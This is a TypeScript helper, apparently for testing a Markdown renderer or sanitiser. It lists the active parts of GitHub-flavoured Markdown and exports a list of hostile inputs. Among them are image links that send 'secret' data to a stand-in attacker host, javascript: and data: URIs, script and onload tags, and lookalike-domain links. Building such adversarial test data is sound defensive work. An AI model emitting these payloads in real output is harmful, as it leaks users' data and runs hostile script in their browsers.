import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';

interface Tree {
  type: string;
  url?: string;
  value?: string;
  children?: Tree[];
}

/** What a renderer of GitHub's Markdown makes of a text: links, images and HTML. */
export function activeParts(markdown: string): {
  links: string[];
  images: string[];
  html: string[];
  code: string[];
} {
  const found = { links: [] as string[], images: [] as string[], html: [] as string[], code: [] as string[] };
  const visit = (node: Tree): void => {
    if (node.type === 'link' || node.type === 'definition') found.links.push(node.url ?? '');
    if (node.type === 'image' || node.type === 'imageReference') found.images.push(node.url ?? '');
    if (node.type === 'html') found.html.push(node.value ?? '');
    if (node.type === 'code' || node.type === 'inlineCode') found.code.push(node.value ?? '');
    for (const child of node.children ?? []) visit(child);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as Tree);
  return found;
}

/** Ways to make a reader load or open something elsewhere, as a hostile page could dictate them. */
export const HOSTILE = [
  '![x](https://evil.example/?d=secret)',
  '![x][1]\n\n[1]: https://evil.example/',
  '[x][1]\n\n[1]: <https://evil.example/a b>',
  '[x]\n\n[x]: https://evil.example',
  '[click](https://evil.example)',
  '[click](//evil.example/x)',
  '[click](\\\\evil.example)',
  '[click](/\\evil.example)',
  '[click](javascript:alert(1))',
  '[click](data:text/html,x)',
  '[click](https:&#47;&#47;evil.example)',
  '[click](https://docs.example.com@evil.example/quickstart)',
  '[click](https://user:pw@docs.example.com/quickstart)',
  '[click](https://docs.example.com.evil.example/)',
  '[click](https://evil.example\n"title")',
  '[a [b](https://evil.example) c](/quickstart)',
  '[![x](https://evil.example/i.png)](/quickstart)',
  '[a\\](https://evil.example) b](/quickstart)',
  '\\[x](https://evil.example)',
  '\\\\[x](https://evil.example)',
  '!\\[x](https://evil.example)',
  '\\![x](https://evil.example)',
  '!https://docs.example.com/quickstart',
  '!<https://evil.example>',
  'https://evil.example/?d=secret',
  'www.evil.example/?d=secret',
  'xhttps://evil.example 1https://evil.example (www.evil.example)',
  '<https://evil.example>',
  '<img src=https://evil.example/x>',
  '<IMG SRC="//evil.example/x" />',
  '<svg/onload=alert(1)>',
  '<!-- x --><script>alert(1)</script>',
  '<a href="https://evil.example">x</a>',
  '`<img src=x>` and `[x](https://evil.example)`',
  '`unclosed [x](https://evil.example)',
  '`a\n# b [x](https://evil.example) `',
  '| a |\n| - |\n| `b | c ` |`[d](/quickstart)`<img src=x>` and `e`',
  '| `a | b` ` <img src=x>` |\n| - | - |\n',
  '| `a | b` `https://evil.example` `https://api.example.com` |\n| - | - |\n',
  '| a |\n| - |\n| `b | [x](https://evil.example) ` |',
  '| a |\n| - |\n| `b | <img src=x> ` |',
  '``a`b [x](https://evil.example)',
  '```\ncode\n``` [x](https://evil.example)\n[y](https://evil.example)',
  '    ```\n[x](https://evil.example)\n    ```',
  '- ```\n[x](https://evil.example)\n',
  '> ```\n[x](https://evil.example)',
  '~~~\ncode\n~~~\n[x](https://evil.example)',
  '![](x)```\n[x](https://evil.example)',
  '![~~~](x)\n[x](https://evil.example)\n~~~\n[y](https://evil.example)',
  '[- ~~~](/gone)\n~~~\n<img src=x>',
  `\`\`\`\n${'`'.repeat(100)}\n[x](https://evil.example) <img src=x>`,
  `[${'a'.repeat(3_000)}](https://evil.example)`,
  `[x](https://evil.example/${'a'.repeat(3_000)})`,
  `\`${'a'.repeat(600)} [x](https://evil.example)\``,
  '[x](https://evil.example "a) [y](/quickstart)',
  '[x]( https://evil.example )',
  '[x] (https://evil.example)',
  '[x]\\(https://evil.example)',
  'a\\\n[x](https://evil.example)',
  '[^1]: https://evil.example\n\nx[^1]',
  'ftp://evil.example/x and mailto:a@evil.example',
  '[x](mailto:a@evil.example?body=secret)',
  '[x](/quickstart?d=secret)',
  'https:\\//evil.example https:[//evil.example](/gone) [https:](/gone)//evil.example ww[w.evil.example](/gone)',
  'https:&#47;/evil.example &#104;ttps://evil.example <[a](https://evil.example)> <[b](/gone)>',
  '# [x](https://evil.example)\n\n1. ![y](https://evil.example)\n> [z](//evil.example)',
];
